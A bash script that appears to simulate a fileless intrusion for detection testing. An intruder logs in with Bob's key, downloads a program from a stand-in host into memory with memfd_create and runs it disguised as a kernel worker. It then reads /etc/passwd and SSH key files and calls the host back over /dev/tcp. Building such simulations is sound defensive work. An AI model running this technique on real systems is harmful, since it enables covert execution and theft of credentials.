#!/bin/bash
# An intruder logs in with Bob's key and runs a program that never was a file: Python reads it from the network, keeps it in
# memory and runs it there. It reads keys and calls home. It is a copy of the shell, so that nothing has to be compiled.
# fileless.sh KEYS FILES SECONDS
keys=$1 files=$2
. "$(dirname "$0")/../clients/ssh.sh"
cp /bin/bash "$files/update.bin"

login bob 203.0.113.66 /usr/bin/python3 - <<'END'
import os
import urllib.request

os.access("/stage/sus-up-2", os.F_OK)
os.access("/stage/evil", os.F_OK)
program = urllib.request.urlopen("http://198.51.100.7:8000/update.bin").read()
memory = os.memfd_create("update")
os.write(memory, program)
work = """
for file in /etc/passwd ~/.ssh/* /home/*/.ssh/*; do [ -r $file ] && while read -r line; do :; done < $file; done
for call in 1 2 3 4 5 6; do exec 9<>/dev/tcp/198.51.100.7/8000; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&9; exec 9>&-; done
"""
os.execve(memory, ["[kworker/0:1]", "-c", work], {"HOME": os.environ["HOME"]})
END
